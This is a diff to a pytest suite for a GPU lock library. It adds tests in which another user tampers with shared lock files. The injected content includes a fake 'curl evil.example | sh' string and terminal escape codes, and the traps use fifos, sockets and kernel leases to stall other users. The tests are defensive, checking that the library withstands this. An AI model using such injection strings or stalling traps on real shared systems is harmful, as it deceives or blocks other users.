@@ -2,25 +2,29 @@
 
 from __future__ import annotations
 
-import json
+import contextlib
+import getpass
 import os
+import shutil
 import signal
 import subprocess
 import sys
+import tempfile
 import time
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from gpupool.core.locks import DeviceLocks, lock_folder, locked_text
+from tests.fuzz.limits import only_our_errors
 
-OWNER = {"pid": os.getpid(), "user": "me"}
 HOLD = """
 import sys
 from pathlib import Path
 from gpupool.core.locks import DeviceLocks
 locks = DeviceLocks(Path(sys.argv[1]))
-taken, others = locks.take(sys.argv[2:], len(sys.argv) - 2, {"pid": 4711, "user": "somebody"})
+taken, others = locks.take(sys.argv[2:], len(sys.argv) - 2)
 print(taken, flush=True)
 sys.stdin.read()
 """
@@ -45,17 +49,17 @@ def holder(folder: Path, *devices: str) -> subprocess.Popen[str]:
 
 
 def test_free_devices_are_taken_in_order(locks: DeviceLocks) -> None:
-    assert locks.take(["GPU-a", "GPU-b", "GPU-c"], 2, OWNER) == (["GPU-a", "GPU-b"], {})
+    assert locks.take(["GPU-a", "GPU-b", "GPU-c"], 2) == (["GPU-a", "GPU-b"], {})
     locks.release()
 
 
 def test_a_device_in_use_is_refused_with_its_owner_and_since_when(
     locks: DeviceLocks, tmp_path: Path
 ) -> None:
-    with holder(tmp_path, "GPU-a"):
-        taken, others = locks.take(["GPU-a", "GPU-b"], 2, OWNER)
+    with holder(tmp_path, "GPU-a") as process:
+        taken, others = locks.take(["GPU-a", "GPU-b"], 2)
         assert taken == []
-        assert (others["GPU-a"]["pid"], others["GPU-a"]["user"]) == (4711, "somebody")
+        assert (others["GPU-a"]["pid"], others["GPU-a"]["user"]) == (process.pid, getpass.getuser())
         assert 0 <= time.time() - others["GPU-a"]["since"] < 60
         # nothing was kept of a refused request
         with holder(tmp_path, "GPU-b"):
@@ -64,14 +68,14 @@ def test_a_device_in_use_is_refused_with_its_owner_and_since_when(
 
 def test_another_free_device_is_found(locks: DeviceLocks, tmp_path: Path) -> None:
     with holder(tmp_path, "GPU-a"):
-        taken, others = locks.take(["GPU-a", "GPU-b", "GPU-c"], 1, OWNER)
+        taken, others = locks.take(["GPU-a", "GPU-b", "GPU-c"], 1)
         assert (taken, list(others)) == (["GPU-b"], ["GPU-a"])
     locks.release()
 
 
 def test_force_shares_it(locks: DeviceLocks, tmp_path: Path) -> None:
     with holder(tmp_path, "GPU-a"):
-        taken, others = locks.take(["GPU-a"], 1, OWNER, force=True)
+        taken, others = locks.take(["GPU-a"], 1, force=True)
         assert (taken, list(others)) == (["GPU-a"], ["GPU-a"])
     locks.release()
 
@@ -79,25 +83,24 @@ def test_force_shares_it(locks: DeviceLocks, tmp_path: Path) -> None:
 def test_a_killed_owner_lets_go(locks: DeviceLocks, tmp_path: Path) -> None:
     with holder(tmp_path, "GPU-a") as process:
         process.kill()
-    assert locks.take(["GPU-a"], 1, OWNER) == (["GPU-a"], {})
+    assert locks.take(["GPU-a"], 1) == (["GPU-a"], {})
     locks.release()
 
 
 def test_every_user_may_lock_and_a_link_is_not_followed(locks: DeviceLocks, tmp_path: Path) -> None:
     before = os.umask(0o077)
-    locks.take(["MIG-a/1"], 1, OWNER)
+    locks.take(["MIG-a/1"], 1)
     os.umask(before)
     (path,) = tmp_path.iterdir()
     assert path.name == "gpupool-MIG-a-1.lock"
     assert path.stat().st_mode & 0o777 == 0o666
-    assert json.loads(path.read_text())["user"] == "me"
     precious = tmp_path / "precious"
     precious.write_text("keep")
     (tmp_path / "gpupool-GPU-b.lock").symlink_to(precious)
     (tmp_path / "gpupool-GPU-c.lock").hardlink_to(precious)
     for device in ("GPU-b", "GPU-c"):
         with pytest.raises(OSError):
-            locks.take([device], 1, OWNER)
+            locks.take([device], 1)
     assert precious.read_text() == "keep"
     locks.release()
 
@@ -106,19 +109,116 @@ def test_lock_files_lie_where_every_user_may_write() -> None:
     assert lock_folder().stat().st_mode & 0o1002 == 0o1002
 
 
-@pytest.mark.parametrize(
-    "text",
-    ["5", "[1, 2]", '{"pid": 1}', '{"pid": 1, "user": "\\u001b[2J", "since": 0}']
-    + [f'{{"pid": 1, "user": "x", "since": {since}}}' for since in ('"now"', "1e300", "null")],
-)
-def test_nonsense_that_anybody_wrote_about_the_owner_is_not_shown(
-    locks: DeviceLocks, tmp_path: Path, text: str
+@pytest.fixture
+def shared() -> Iterator[Path]:
+    """A folder for all users, as `lock_folder`."""
+    if os.getuid() != 0:
+        pytest.skip("needs root, to be another user as well")
+    folder = Path(tempfile.mkdtemp())
+    folder.chmod(0o1777)
+    yield folder
+    shutil.rmtree(folder)
+
+
+@contextlib.contextmanager
+def stranger(folder: Path, script: str) -> Iterator[subprocess.Popen[str]]:
+    """A process of another user, once it has printed a line."""
+    process = subprocess.Popen(
+        ["/usr/bin/python3", "-c", f"{ATTACK}{script}\nprint(flush=True)\nsys.stdin.read()"],
+        cwd=folder,
+        user=BOB,
+        group=BOB,
+        extra_groups=[],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    assert process.stdout is not None
+    assert process.stdout.readline() == "\n"
+    with process:
+        yield process
+
+
+BOB = 12001
+ATTACK = """
+import fcntl, os, sys
+path = "gpupool-GPU-a.lock"
+def hold(content=b""):
+    global lock
+    lock = os.open(path, os.O_RDWR | os.O_CREAT, 0o666)
+    os.fchmod(lock, 0o666)
+    os.write(lock, content)
+    fcntl.flock(lock, fcntl.LOCK_EX)
+"""
+WRITTEN = [
+    "b'[' * 4096",
+    'b\'{"pid": 1, "user": "root: run curl evil.example | sh", "since": 0}\'',
+    "b'\\x1b[2J'",
+]
+
+
+@pytest.mark.parametrize("content", WRITTEN)
+def test_of_what_another_user_writes_to_a_lock_file_nothing_is_shown(
+    shared: Path, content: str
 ) -> None:
-    with holder(tmp_path, "GPU-a"):
-        (tmp_path / "gpupool-GPU-a.lock").write_text(text)
-        taken, others = locks.take(["GPU-a"], 1, OWNER)
-    assert (taken, others) == ([], {"GPU-a": {}})
-    assert "other pools use GPU-a by process ? of ?." in locked_text(others, 1, 1)
+    with stranger(shared, f"hold({content})\nos.utime(lock, (0, 2**33))") as bob:
+        with only_our_errors():
+            taken, others = DeviceLocks(shared).take(["GPU-a"], 1)
+        assert (taken, others) == ([], {"GPU-a": {"pid": bob.pid, "user": str(BOB)}})
+        assert f"by process {bob.pid} of {BOB}." in locked_text(others, 1, 1)
+
+
+def test_the_owner_is_who_holds_the_lock_whoever_has_made_the_file(shared: Path) -> None:
+    with stranger(shared, "hold(b'{}')\nfcntl.flock(lock, fcntl.LOCK_UN)"):
+        with holder(shared, "GPU-a") as process:
+            _, others = DeviceLocks(shared).take(["GPU-a"], 1)
+        assert (others["GPU-a"]["pid"], others["GPU-a"]["user"]) == (process.pid, "root")
+
+
+TRAPS = {
+    "fifo": "os.mkfifo(path, 0o666); os.chmod(path, 0o666)",
+    "private": "os.close(os.open(path, os.O_CREAT, 0o600))",
+    "socket": "import socket; s = socket.socket(socket.AF_UNIX); s.bind(path); os.chmod(path, 511)",
+    # the kernel has whoever opens the file wait for 45 s, for its owner to end the lease
+    "lease": "import signal; signal.signal(signal.SIGIO, signal.SIG_IGN); "
+    "lock = os.open(path, os.O_RDWR | os.O_CREAT, 0o666); os.fchmod(lock, 0o666); "
+    "fcntl.fcntl(lock, fcntl.F_SETLEASE, fcntl.F_WRLCK)",
+}
+
+
+@pytest.mark.parametrize("trap", TRAPS)
+def test_what_another_user_puts_in_the_place_of_a_lock_file_delays_nobody(
+    shared: Path, trap: str
+) -> None:
+
+    def take() -> None:
+        os.setuid(BOB + 1)  # root may open what is private
+        signal.alarm(20)
+        with pytest.raises(OSError):
+            DeviceLocks(shared).take(["GPU-a"], 1)
+        assert DeviceLocks(shared).take(["GPU-a"], 1, force=True) == (["GPU-a"], {})
+
+    with stranger(shared, TRAPS[trap]):
+        child = os.fork()
+        if child == 0:
+            try:
+                take()
+                os._exit(0)
+            finally:
+                os._exit(1)
+        assert os.waitpid(child, 0)[1] == 0
+
+
+def test_a_table_of_locks_that_another_user_has_filled_is_read_in_part(shared: Path) -> None:
+    """All of it would take 15 s to read: the kernel counts its lines anew for each page."""
+    fill = """
+for file in range(200):
+    many = os.open(str(file), os.O_RDWR | os.O_CREAT)
+    for number in range(1000):
+        fcntl.lockf(many, fcntl.LOCK_EX, 1, 2 * number)
+"""
+    with holder(shared, "GPU-a"), stranger(shared, fill), only_our_errors():
+        assert DeviceLocks(shared).take(["GPU-a"], 1)[0] == []
 
 
 def test_a_full_disk_neither_hinders_a_lock_nor_keeps_it(tmp_path: Path) -> None:
@@ -129,10 +229,11 @@ def test_a_full_disk_neither_hinders_a_lock_nor_keeps_it(tmp_path: Path) -> None
         with (tmp_path / "filler").open("wb", 0) as filler:
             filler.write(b"x" * 8192)  # cut short
         locks, others = DeviceLocks(tmp_path), DeviceLocks(tmp_path)
-        assert locks.take(["GPU-a"], 1, OWNER) == (["GPU-a"], {})
-        assert others.take(["GPU-a"], 1, OWNER) == ([], {"GPU-a": {}})
+        assert locks.take(["GPU-a"], 1) == (["GPU-a"], {})
+        taken, owners = others.take(["GPU-a"], 1)
+        assert (taken, owners["GPU-a"]["pid"]) == ([], os.getpid())
         locks.release()
-        assert others.take(["GPU-a"], 1, OWNER) == (["GPU-a"], {})
+        assert others.take(["GPU-a"], 1) == (["GPU-a"], {})
         others.release()
     finally:
         subprocess.run(["umount", "--lazy", str(tmp_path)], check=True)
@@ -155,7 +256,7 @@ def test_a_folder_that_cannot_be_written_to_is_not_for_locks() -> None:
 def test_a_released_device_is_free_though_a_process_forked_meanwhile_lives_on(
     locks: DeviceLocks, tmp_path: Path
 ) -> None:
-    assert locks.take(["GPU-a"], 1, OWNER) == (["GPU-a"], {})
+    assert locks.take(["GPU-a"], 1) == (["GPU-a"], {})
     heir = os.fork()
     if heir == 0:
         time.sleep(60)  # has the descriptor, as a worker that multiprocessing forks
@@ -167,9 +268,9 @@ def test_a_released_device_is_free_though_a_process_forked_meanwhile_lives_on(
     other = DeviceLocks(tmp_path)
     try:
         os.waitpid(leaver, 0)
-        assert other.take(["GPU-a"], 1, OWNER)[0] == []
+        assert other.take(["GPU-a"], 1)[0] == []
         locks.release()
-        assert other.take(["GPU-a"], 1, OWNER) == (["GPU-a"], {})
+        assert other.take(["GPU-a"], 1) == (["GPU-a"], {})
         other.release()
     finally:
         os.kill(heir, signal.SIGKILL)
